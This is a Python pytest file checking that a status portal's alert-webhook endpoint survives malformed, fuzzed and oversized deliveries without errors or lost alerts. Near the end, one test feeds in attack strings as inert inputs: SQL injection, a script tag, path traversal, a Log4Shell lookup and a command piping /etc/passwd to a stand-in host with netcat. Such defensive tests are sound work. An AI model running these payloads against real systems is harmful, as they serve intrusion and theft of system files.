"""What is broken in a delivery costs no other alert, and is never a 500."""

import json
from datetime import timedelta
from random import Random

import pytest

from portal import clock
from portal.accounts.roles import Scope
from portal.audit import chain
from portal.runtime.episode import Episode
from portal.status.components import ComponentIn
from portal.unit_of_work import By
from tests.clocks import StandingClock
from tests.instants import NOW
from tests.runtime.firings import FINGERPRINT, FIRST, PATH, alert, delivery, episodes, push
from tests.sites import Site


@pytest.mark.parametrize("body", [[], [FIRST], "x", 5, None])
@pytest.mark.usefixtures("still")
def test_what_is_no_object_at_all_is_refused(site: Site, body: object):
    headers = site.bearer(Scope.ALERTS_PUSH)
    assert site.client().post(PATH, json=body, headers=headers).status_code in (400, 422)
    assert episodes(site) == []


BROKEN = [
    (b'{"status": "firing", "alerts": [], "alerts": [%s]}', "a key that stands twice"),
    (b'{"groupKey": "\\ud800", "alerts": [%s]}', "half a character, escaped"),
    (b'{"groupKey": "\xff\xfe", "alerts": [%s]}', "bytes that are no UTF-8"),
    (b'{"truncatedAlerts": NaN, "alerts": [%s]}', "a number that is none"),
]


@pytest.mark.parametrize(("body", "why"), BROKEN, ids=[why for _, why in BROKEN])
def test_what_is_broken_around_an_alert_costs_no_alert(
    either: Site, still: StandingClock, body: bytes, why: str
):
    headers = either.bearer(Scope.ALERTS_PUSH) | {"Content-Type": "application/json"}
    data = body % json.dumps(FIRST).encode()
    answer = either.client().post(PATH, data=data, headers=headers)
    assert answer.status_code == 200, answer.text
    assert answer.get_json()["opened"] == 1, why


def test_half_a_character_in_an_alert_is_marked(either: Site, still: StandingClock):
    headers = either.bearer(Scope.ALERTS_PUSH) | {"Content-Type": "application/json"}
    alert = {**FIRST, "labels": {"alertname": "Half \ud83d of it"}}
    data = json.dumps({"alerts": [alert]})
    assert either.client().post(PATH, data=data, headers=headers).status_code == 200
    with either.portal.core.open_session() as session:
        assert session.query(Episode).one().alert == "Half ? of it"


ODD = [None, "", "x" * 7000, "a\x00b", 0, -1, 1e308, True, [], [1], {}, {"a": None}, "\u202e"]
TIMES = [
    *ODD,
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00+01:00",
    "9999-12-31T23:59:59-14:00",
    "2999-12-31T23:59:59Z",
    "2030-06-03T11:50:00",
    "2030-06-03T11:50:00Z",
]
LABELS = [
    *ODD,
    {"alertname": "\x00"},
    {"alertname": "x" * 9000, "severity": "CRITICAL", "component": "api"},
    {"alertname": None, "severity": 7, "component": ["api"]},
    {"y" * 300 + str(number): "z" * 300 for number in range(300)},
    {"\x00": "\x00"},
]


def odd_alerts(seed: int) -> list[object]:
    draw = Random(seed)
    fields = {
        "status": [*ODD, "firing", "resolved", "Firing", " RESOLVED "],
        "labels": LABELS,
        "annotations": [*LABELS, {"summary": "s" * 9000, "runbook_url": "https://" + "r" * 9000}],
        "startsAt": TIMES,
        "endsAt": TIMES,
        "fingerprint": [*ODD, FINGERPRINT, "../x", "A" * 16, "g" * 64],
    }
    found: list[object] = [draw.choice(ODD) for _ in range(3)]
    for _ in range(40):
        one = {**FIRST, "status": draw.choice(["firing", "resolved"])}
        for name in draw.sample(sorted(fields), draw.randint(1, 4)):
            one[name] = draw.choice(fields[name])
        if draw.random() < 0.2:
            del one[draw.choice(sorted(one))]
        found.append(one)
    draw.shuffle(found)
    return found


@pytest.mark.fault(38)
def test_an_odd_alert_costs_no_other_and_never_a_500(either: Site, still: StandingClock):
    """Whatever comes is answered, and the sound alert beside it is taken and ended."""
    either.portal.status.components.add(By("a"), ComponentIn(slug="api", name="API"))
    headers = either.bearer(Scope.ALERTS_PUSH)
    sound = {"labels": {"alertname": "Sound", "component": "api"}, "fingerprint": "5" * 16}
    for seed in range(12):
        still.advance(minutes=1)
        fires = {**FIRST, **sound, "startsAt": clock.iso(clock.now())}
        sent = [*odd_alerts(seed), fires]
        told = push(either, *sent, headers=headers, **{"version": ODD[seed], "status": ODD[seed]})
        assert told["opened"] + told["unchanged"] + told["skipped"] >= 3
        assert [one for one in either.portal.overview.take().alerts if one.id == "Sound"]
        # The one that ends has the zero time for its end.
        assert push(either, {**fires, "status": "resolved"}, headers=headers)["closed"] == 1
        assert not [one for one in either.portal.overview.take().alerts if one.id == "Sound"]
    with either.portal.core.open_session() as session:
        for row in session.query(Episode):
            assert NOW - timedelta(days=400) < row.opened_at <= clock.now()
            assert row.closed_at is None or row.opened_at <= row.closed_at <= clock.now()
        assert list(chain.verify(session))[-1].first_bad_seq is None


@pytest.mark.parametrize("start", ["0001-01-01T00:00:00Z", "0001-01-01T00:00:00+01:00", "1999", 0])
def test_a_start_that_cannot_be_is_now(either: Site, still: StandingClock, start: object):
    since = NOW.date() - timedelta(days=100)
    part = ComponentIn(slug="api", name="API", since=since)
    either.portal.status.components.add(By("a"), part)
    headers = either.bearer(Scope.ALERTS_PUSH)
    fires = {**alert("firing", "", component="api"), "startsAt": start}
    push(either, fires, headers=headers)
    still.advance(minutes=1)
    push(either, {**fires, "status": "resolved", "endsAt": start}, headers=headers)
    assert episodes(either) == [("2030-06-03T12:00:00Z", "2030-06-03T12:01:00Z")]
    still.advance(minutes=1)
    (shown,) = either.client().get("/api/status").get_json()["components"]
    assert shown["uptime90"] > 0.9999


@pytest.mark.parametrize("alerts", [None, {}, "x", 5])
def test_a_delivery_without_a_list_of_alerts_is_an_empty_one(site: Site, alerts: object):
    headers = site.bearer(Scope.ALERTS_PUSH)
    answer = site.client().post(PATH, json={"alerts": alerts}, headers=headers)
    assert answer.status_code == 200
    assert answer.get_json()["skipped"] == (0 if alerts is None else 1)
    assert site.client().post(PATH, json={}, headers=headers).status_code == 200


@pytest.mark.parametrize(
    "text",
    [
        "1 UNION SELECT password FROM users -- ",
        "<script>alert(1)</script>",
        "../../../etc/passwd",
        "; cat /etc/passwd | nc evil 1",
        "${jndi:ldap://x}",
        'rate(http_requests_total{path=~"/a.*|/b"}[5m]) > 5',
    ],
)
@pytest.mark.usefixtures("still")
def test_what_an_alert_quotes_is_no_attack(site: Site, text: str):
    headers = site.bearer(Scope.ALERTS_PUSH) | {"User-Agent": "Alertmanager/0.27.0"}
    quoted = alert("firing", "2030-06-03T11:50:00Z", query=text)
    quoted["annotations"] = {"summary": text, "description": text}
    quoted["generatorURL"] = f"http://prometheus/graph?g0.expr={text}"
    assert push(site, quoted, headers=headers)["opened"] == 1


def test_a_token_for_something_else_may_not(site: Site):
    headers = site.bearer(Scope.WORKERS_PUSH)
    assert site.client().post(PATH, json=delivery(FIRST), headers=headers).status_code == 403
